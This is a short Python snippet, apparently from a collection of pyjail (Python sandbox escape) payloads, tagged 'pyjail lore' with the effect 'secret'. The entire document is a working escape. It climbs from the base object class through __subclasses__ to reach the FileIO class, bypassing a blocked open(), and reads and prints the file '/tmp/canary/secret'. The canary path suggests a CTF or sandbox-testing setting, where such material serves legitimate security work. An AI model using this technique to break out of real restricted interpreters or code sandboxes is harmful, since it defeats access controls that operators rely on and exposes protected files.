# source: pyjail lore
# effect: secret

top = type([]).mro()[-1]
io_base = [kind for kind in type.__subclasses__(top) if kind.__name__ == "_IOBase"][0]
raw = [kind for kind in type.__subclasses__(type.__subclasses__(io_base)[0]) if kind.__name__ == "FileIO"]
raw = raw or [kind for base in io_base.__subclasses__() for kind in base.__subclasses__() if kind.__name__ == "FileIO"]
print(raw[0]("/tmp/canary/secret").readall().decode())
